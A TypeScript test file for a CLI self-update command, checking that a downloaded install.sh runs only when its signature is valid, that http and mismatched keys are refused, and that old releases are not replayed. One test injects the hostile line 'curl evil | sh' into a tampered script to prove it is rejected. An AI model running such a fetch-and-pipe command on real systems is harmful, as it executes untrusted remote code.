import { generateKeyPairSync, sign } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import type { Deps } from '../../src/commands/deps.js';
import { newerWizard, selfUpdateCommand } from '../../src/commands/self-update.js';
import type { HttpClient } from '../../src/core/context.js';
import { FakeRunner } from '../helpers/fake-runner.js';

const { privateKey, publicKey } = generateKeyPairSync('ed25519');
const KEY = publicKey.export({ type: 'spki', format: 'der' }).toString('base64');
const other = generateKeyPairSync('ed25519').privateKey;
const CHANNEL = 'https://releases.example.com/latest';
const SCRIPT = Buffer.from("#!/usr/bin/env bash\nrelease_info() {\n  WIZARD_VERSION='1.1.0'\n}\n{ main; }\n");

/** `wizard self-update` at 1.0.0 against a channel serving install.sh and install.sh.sig (or not). */
function setup(files: Record<string, Uint8Array | undefined>, env: Record<string, string> = {}) {
  const requests: string[] = [];
  const http: HttpClient = {
    async request(url) {
      requests.push(url);
      const bytes = files[url.slice(CHANNEL.length + 1)];
      if (!bytes) return { status: 404, body: 'not found\n', bytes: Buffer.from('not found\n') };
      return { status: 200, body: Buffer.from(bytes).toString('utf8'), bytes };
    },
  };
  const ran: Buffer[] = [];
  const runner = new FakeRunner([
    { match: /^bash \S+\/install\.sh$/, effect: (cmd) => void ran.push(readFileSync(cmd.args[0] ?? '')) },
  ]);
  let stdout = '';
  let stderr = '';
  const write = (to: 'out' | 'err') => (s: string) => {
    if (to === 'out') stdout += s;
    else stderr += s;
    return true;
  };
  const deps = {
    http,
    runner,
    version: '1.0.0',
    env: {
      env: {
        WIZARD_UPDATE_URL: CHANNEL,
        WIZARD_UNSAFE_TEST_RELEASES: '1',
        WIZARD_RELEASE_PUBKEY: KEY,
        ...env,
      },
    },
    term: { stdout: { write: write('out') }, stderr: { write: write('err'), isTTY: false } },
  } as unknown as Deps;
  return { deps, requests, ran, runner, out: () => stdout, err: () => stderr };
}

const signed = (script: Uint8Array, key = privateKey) => ({
  'install.sh': script,
  'install.sh.sig': sign(null, script, key),
});

describe('wizard self-update', () => {
  it('runs the newer install.sh, byte for byte as signed, once its signature checks out', async () => {
    const s = setup(signed(SCRIPT));
    expect(await selfUpdateCommand({}, s.deps)).toBe(0);
    expect(s.requests).toEqual([`${CHANNEL}/install.sh`, `${CHANNEL}/install.sh.sig`]);
    expect(s.ran).toEqual([SCRIPT]);
    expect(s.out()).toBe('✔ Updated the wizard 1.0.0 → 1.1.0.\n');
    expect(s.err()).toContain(
      'WIZARD_UNSAFE_TEST_RELEASES=1: http and the test key in WIZARD_RELEASE_PUBKEY',
    );
  });

  it('refuses an unsigned, altered or foreign-signed install.sh with exit 5 and runs nothing', async () => {
    const altered = Buffer.from(SCRIPT.toString().replace('{ main; }', 'curl evil | sh; { main; }'));
    const cases: [Record<string, Uint8Array | undefined>, RegExp][] = [
      [{ 'install.sh': SCRIPT }, /install\.sh is not signed \(install\.sh\.sig: HTTP 404\); it was not run/],
      [
        { 'install.sh': altered, 'install.sh.sig': signed(SCRIPT)['install.sh.sig'] },
        /does not match its signature/,
      ],
      [
        signed(SCRIPT, other),
        /does not match its signature by the release key [0-9a-f]{16}… \(WIZARD_RELEASE_PUBKEY\)/,
      ],
      [{ 'install.sh': SCRIPT, 'install.sh.sig': Buffer.from('sig') }, /does not match its signature/],
    ];
    for (const [files, message] of cases) {
      for (const check of [false, true]) {
        const s = setup(files);
        await expect(selfUpdateCommand({ check }, s.deps)).rejects.toMatchObject({
          exitCode: 5,
          message: expect.stringMatching(message),
          remedy: expect.stringContaining('Do not run it.'),
        });
        expect(s.runner.calls).toEqual([]);
        expect(s.out()).toBe('');
      }
    }
  });

  it('checks against the pinned key when no test key is given: a throwaway-signed release is refused', async () => {
    const s = setup(signed(SCRIPT), { WIZARD_RELEASE_PUBKEY: '' });
    await expect(selfUpdateCommand({}, s.deps)).rejects.toMatchObject({ exitCode: 5 });
    expect(s.runner.calls).toEqual([]);
  });

  it('refuses http, and a test key without the test switch, before any request (exit 2)', async () => {
    const http = setup(signed(SCRIPT), {
      WIZARD_UPDATE_URL: 'http://releases.example.com/latest',
      WIZARD_UNSAFE_TEST_RELEASES: '',
      WIZARD_RELEASE_PUBKEY: '',
    });
    await expect(selfUpdateCommand({}, http.deps)).rejects.toMatchObject({
      exitCode: 2,
      message:
        'WIZARD_UPDATE_URL is http://releases.example.com/latest; releases are downloaded over https only.',
    });
    const release = setup(signed(SCRIPT), {
      WIZARD_UNSAFE_TEST_RELEASES: '',
      WIZARD_RELEASE_PUBKEY: '',
      WIZARD_RELEASE_URL: 'http://mirror.example.com/v1.1.0',
    });
    await expect(selfUpdateCommand({}, release.deps)).rejects.toMatchObject({ exitCode: 2 });
    const key = setup(signed(SCRIPT), { WIZARD_UNSAFE_TEST_RELEASES: '' });
    await expect(selfUpdateCommand({}, key.deps)).rejects.toMatchObject({
      exitCode: 2,
      message: expect.stringContaining('WIZARD_RELEASE_PUBKEY is set'),
    });
    for (const s of [http, release, key]) {
      expect(s.requests).toEqual([]);
      expect(s.runner.calls).toEqual([]);
    }
  });

  it('never runs an older or equal signed release (a replayed old release cannot take the wizard back)', async () => {
    const old = Buffer.from(SCRIPT.toString().replace("'1.1.0'", "'0.9.0'"));
    const s = setup(signed(old));
    expect(await selfUpdateCommand({}, s.deps)).toBe(0);
    expect(s.out()).toBe('The wizard 1.0.0 is up to date.\n');
    expect(s.runner.calls).toEqual([]);
  });

  it('the upgrade notice names a newer wizard only when its install.sh is signed', async () => {
    expect(await newerWizard(setup(signed(SCRIPT)).deps)).toBe('1.1.0');
    expect(await newerWizard(setup(signed(SCRIPT, other)).deps)).toBeUndefined();
    expect(await newerWizard(setup({ 'install.sh': SCRIPT }).deps)).toBeUndefined();
  });
});
